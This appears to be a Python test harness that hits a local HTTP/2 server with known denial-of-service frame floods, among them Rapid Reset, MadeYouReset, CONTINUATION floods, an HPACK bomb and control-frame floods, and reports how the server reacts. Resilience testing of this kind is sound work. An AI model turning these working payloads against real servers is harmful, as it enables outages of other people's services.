#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""h2_flood.py PORT ATTACK [--tls] [--frames N]: sends frames of one kind, N at most, and reads what comes, until it is cut off.
Prints how: the code of GOAWAY, "closed" without one, or "served" when all was taken; then the number of frames that had left.
h2_flood.py PORT heavy: no attack. A client that opens 5000 streams and cancels 30 % of them, half of these when the answer has
begun: prints "served" and how many answers came.

rapid_reset      CVE-2023-44487          continuation, continuation_empty   CVE-2024-27316 and its kin
made_you_reset   CVE-2025-8671           ping, settings, data, reset        CVE-2019-9512, 9515, 9518, 9514
bomb             HPACK, CVE-2016-6581    priority, window, unknown          noise that costs us more than its sender"""
import argparse
import random
import socket
import time

from h2frames import (CONTINUATION, END_HEADERS, END_STREAM, ERRORS, GOAWAY, PING_DATA, POST, RST_STREAM, Peer,
                      Wrong, block, data, frame, headers, ping, priority, request, reset, settings, window)

AT_ONCE = 50  # between looks at what came; fewer than the streams that may be open


def rapid_reset(i):
    return headers(1 + 2 * i) + reset(1 + 2 * i)


def made_you_reset(i):
    return headers(1 + 2 * i, request("POST", extra=[("content-length", "1")]), END_HEADERS) + data(1 + 2 * i)


def malformed(i):
    return headers(1 + 2 * i, request(extra=[("A", "1")]))


def continuation(i):
    return headers(flags=END_STREAM) if not i else frame(CONTINUATION, 0, 1, block([("x-%d" % i, "a" * 100)]))


def continuation_empty(i):
    return headers(flags=END_STREAM) if not i else frame(CONTINUATION, 0, 1)


def data_empty(i):
    return headers(fields=POST, flags=END_HEADERS) if not i else data(payload=b"", end=False)


def reset_closed(i):
    return headers(flags=END_HEADERS) + reset() if not i else reset()


def bomb(i):
    """A field of 4000 bytes goes into the table, and then comes a thousand times a stream, a byte each."""
    first = b"\x40" + b"\1x" + b"\x7f\xa1\x1e" + b"a" * 4000 if not i else b""
    return headers(1 + 2 * i, raw=block(request()) + first + b"\xbe" * 8000)


ATTACKS = {
    "rapid_reset": rapid_reset, "made_you_reset": made_you_reset, "malformed": malformed, "continuation": continuation,
    "continuation_empty": continuation_empty, "data": data_empty, "reset": reset_closed, "bomb": bomb,
    "ping": lambda i: ping(), "settings": lambda i: settings((3, 100)), "priority": lambda i: priority(1 + 2 * i),
    "window": lambda i: window(0, 1), "unknown": lambda i: frame(0x16, 0, 0, PING_DATA),
}


def look(peer):
    """Reads what is there; GOAWAY with an error or the end: it is over."""
    peer.sock.settimeout(0.0001)
    try:
        while more := peer.sock.recv(1 << 20):
            peer.rest += more
        peer.is_closed = True
    except (socket.timeout, BlockingIOError):
        pass
    except OSError:
        peer.is_closed = True
    while len(peer.rest) >= 9 and len(peer.rest) >= 9 + (length := int.from_bytes(peer.rest[:3], "big")):
        f = peer.cut(length)
        peer.frames.clear()
        peer.n_resets += f.kind == RST_STREAM
        if f.kind == GOAWAY:
            return ERRORS[f.code]
    return "closed" if peer.is_closed else None


def attack(peer, make, n):
    """How it ended, and the number of frames until then."""
    for i in range(0, n, AT_ONCE):
        how = look(peer)
        while not how and make is made_you_reset and peer.n_resets < i:  # no more open than may be
            how = look(peer)
        if how:
            return how, i
        peer.extend(10)
        peer.send(b"".join(make(j) for j in range(i, min(i + AT_ONCE, n))))
    end = time.monotonic() + 2
    peer.send(ping(b"are done"))
    while time.monotonic() < end and not peer.is_closed:
        if how := look(peer):
            return how, n
    return "served", n


def heavy(peer, n=5000, at_once=25):
    rng, n_answers, ends = random.Random(1), 0, {}
    for first in range(0, n, at_once):
        streams = range(1 + 2 * first, 1 + 2 * (first + at_once), 2)
        doomed = {s: rng.random() < 0.5 for s in streams if rng.random() < 0.3}
        peer.extend(10)
        peer.send(b"".join(headers(s) + (reset(s) if doomed.get(s) else b"") for s in streams))
        ends = {s for s in streams if s not in doomed}
        late = {s for s, at_once_too in doomed.items() if not at_once_too}
        while ends or late:
            f = peer.take()
            peer.frames.clear()
            if not f or f.kind == GOAWAY:
                return "closed" if not f else ERRORS[f.code], n_answers
            if f.stream in late:
                late.discard(f.stream)
                peer.send(reset(f.stream))
            if f.kind == 0 and f.payload:
                peer.send(window(0, len(f.payload)))
            if f.ends and f.stream in ends:
                ends.discard(f.stream)
                n_answers += 1
            elif f.kind == RST_STREAM and f.stream in ends:
                return "reset", n_answers
    return "served", n_answers


def main():
    parser = argparse.ArgumentParser(usage=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=[*ATTACKS, "heavy"])
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--frames", type=int, default=100000)
    args = parser.parse_args()
    peer = Peer(args.port, args.tls, 10)
    peer.n_resets = 0
    try:
        peer.begin()
        print(*(heavy(peer) if args.attack == "heavy" else attack(peer, ATTACKS[args.attack], args.frames)))
    except Wrong as error:
        print("wrong", error)


main()
